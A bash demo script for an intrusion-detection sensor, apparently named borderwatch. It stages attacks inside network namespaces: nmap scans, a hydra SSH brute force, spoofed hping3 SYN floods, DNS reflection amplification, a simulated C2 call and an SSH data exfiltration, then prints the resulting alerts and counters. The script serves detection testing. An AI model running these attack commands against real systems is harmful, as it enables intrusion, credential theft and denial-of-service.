#!/usr/bin/env bash
# borderwatch demo: builds the lab (scripts/lab/lab.sh), runs a short scripted
# attack sequence with real tools at bounded rates while the alerts are shown
# as they arrive, prints the kernel stage's per-country counters, and tears
# the lab down (also on failure or Ctrl-C). Run as root: `sudo make demo`.
set -euo pipefail

LAB_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO=$(cd "$LAB_DIR/../.." && pwd)
export BWL_STATE=${BWL_STATE:-/tmp/bwl-demo}
S=$BWL_STATE
FMT_PID=

[ "$(id -u)" -eq 0 ] || {
	echo "demo: needs root (network namespaces, XDP): sudo make demo" >&2
	exit 1
}

cleanup() {
	if [ -n "$FMT_PID" ]; then kill "$FMT_PID" 2>/dev/null || true; fi
	"$LAB_DIR/lab.sh" down
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# One lab at a time (make e2e takes the same lock).
exec 9>/tmp/bwl-lab.lock
flock -w 900 9 || {
	echo "demo: another lab is running" >&2
	exit 1
}
mkdir -p "$S"
chmod 755 "$S"
echo "== building borderwatch and the alert formatter"
(cd "$REPO" && CGO_ENABLED=0 go build -o "$S/borderwatch" ./cmd/borderwatch && go build -o "$S/alertfmt" ./internal/devtools/alertfmt)
echo "== building the lab (namespaces bwl-*, sensor on bwl-gw)"
BWL_BIN="$S/borderwatch" "$LAB_DIR/lab.sh" up
grep -h '"message":"\(XDP attached\|sensor running\|XDP capture unavailable[^"]*\)"' "$S/log/borderwatch.log" | cut -c1-200
echo "== live console: http://127.0.0.1:9467/ in namespace bwl-gw (e.g. ip netns exec bwl-gw curl -s http://127.0.0.1:9467/api/snapshot; docs/console.md)"
echo
echo "== alerts as they arrive ($S/alerts.json):"
"$S/alertfmt" -follow "$S/alerts.json" -from-start &
FMT_PID=$!

x() { # x NS CMD...: run a tool in a lab namespace, bounded by timeout(1)
	local ns=$1
	shift
	(cd "$S" && ip netns exec "$ns" timeout 30 "$@") >/dev/null 2>&1 || true
}
# settle: wait until the alert file has not grown for a second (the previous
# step's alerts are written and shown), at most 6 s.
settle() {
	local last=-1 size quiet=0 deadline=$((SECONDS + 6))
	while [ $SECONDS -lt $deadline ] && [ $quiet -lt 10 ]; do
		size=$(stat -c %s "$S/alerts.json" 2>/dev/null || echo 0)
		if [ "$size" = "$last" ]; then quiet=$((quiet + 1)); else quiet=0; fi
		last=$size
		sleep 0.1
	done
}
step() {
	settle
	printf '\n\033[1m>> %s\033[0m\n' "$*"
}

step "CN 198.51.100.11: nmap SYN scan of 192.0.2.11 (home, DE)"
x bwl-cn nmap -n -Pn -T4 -sS -p 1-100 -S 198.51.100.11 -e eth0 192.0.2.11
step "FR 192.0.2.141 (EU, like home): nmap FIN scan of 192.0.2.13"
x bwl-fr nmap -n -Pn -T4 -sF -p 1-100 -S 192.0.2.141 -e eth0 192.0.2.13
step "RU 2001:db8:2::10: nmap IPv6 NULL scan of 2001:db8:de::13"
x bwl-ru nmap -6 -n -Pn -T4 -sN -p 1-100 -S 2001:db8:2::10 -e eth0 2001:db8:de::13
step "FR 192.0.2.142: nmap ping sweep of 192.0.2.0/27"
x bwl-fr nmap -n -sn -PE -T4 -S 192.0.2.142 -e eth0 192.0.2.0/27
step "CN 198.51.100.10: hydra against the home sshd (73 passwords, the 25th right)"
x bwl-cn hydra -l bwlab -P "$S/passwords-hydra.txt" -t 24 -f -I ssh://192.0.2.10
step "RU, 5 spoofed sources 203.0.113.100-104: hping3 SYN flood on 192.0.2.20 (5 x 1000 packets)"
pids=()
for i in 100 101 102 103 104; do
	x bwl-ru hping3 -q -S -p 80 -c 1000 -i u1000 -a "203.0.113.$i" 192.0.2.20 &
	pids+=($!)
done
wait "${pids[@]}"
pids=()
step "RU attacker spoofing 192.0.2.22: DNS queries to 12 reflectors in CN, RU, FR; ~1 KB answers converge on home"
for r in 198.51.100.5{3,4,5,6} 203.0.113.5{3,4,5,6} 192.0.2.15{3,4,5,6}; do
	x bwl-ru hping3 -q -2 -p 53 -s 40000 -k -a 192.0.2.22 -E "$S/query.bin" -d 41 -c 300 -i u2000 "$r" &
	pids+=($!)
done
wait "${pids[@]}"
step "home 192.0.2.10 calls its C2 server on a listed address (203.0.113.66)"
x bwl-lan curl -s -o /dev/null http://203.0.113.66/
step "home 192.0.2.30 port-scans a server in CN"
x bwl-lan nmap -n -Pn -T4 -sS -p 1-100 -S 192.0.2.30 -e eth0 198.51.100.80
step "home 192.0.2.31 uploads 24 MB over SSH to CN (outside the EU)"
(cd "$S" && ip netns exec bwl-lan timeout 60 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
	-o LogLevel=ERROR -i "$S/ssh/client_ed25519" -b 192.0.2.31 bwlab@198.51.100.80 'cat >/dev/null' <"$S/upload.bin") || true
step "benign: web, DNS, SSH login, ping, a 40 MB download from FR (no alerts expected)"
x bwl-lan curl -s -o /dev/null http://192.0.2.140/index.html
x bwl-lan dig +short @198.51.100.53 www.refl.lab
x bwl-fr ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i "$S/ssh/client_ed25519" bwlab@192.0.2.10 true
x bwl-cn ping -c 3 -i 0.2 192.0.2.10
x bwl-lan curl -s -o /dev/null http://192.0.2.140/big.bin
settle

echo
echo "== kernel stage per-country counters (remote end's country; ingress = XDP, egress = TC):"
if ip netns exec bwl-gw timeout 5 curl -sf http://127.0.0.1:9467/metrics >"$S/metrics.txt"; then
	printf '  %-7s %-9s %-8s %12s %14s\n' country direction hook packets bytes
	awk '
		/^borderwatch_kernel_(packets|bytes)_total\{/ {
			what = ($0 ~ /packets_total/) ? "p" : "b"
			match($0, /country="[^"]*"/); c = substr($0, RSTART + 9, RLENGTH - 10)
			match($0, /direction="[^"]*"/); d = substr($0, RSTART + 11, RLENGTH - 12)
			match($0, /hook="[^"]*"/); h = substr($0, RSTART + 6, RLENGTH - 7)
			k = c " " d " " h; keys[k] = 1; v[k, what] = $NF
		}
		END { for (k in keys) { split(k, f, " "); printf "  %-7s %-9s %-8s %12d %14d\n", f[1], f[2], f[3], v[k, "p"], v[k, "b"] } }
	' "$S/metrics.txt" | sort
	grep -E '^borderwatch_kernel_(events_total|seen_packets_total|seen_bytes_total)' "$S/metrics.txt" | sed 's/^borderwatch_kernel_/  kernel /'
else
	echo "  (metrics unreachable)"
fi
echo
echo "== $(wc -l <"$S/alerts.json") alerts in $S/alerts.json; tearing down"
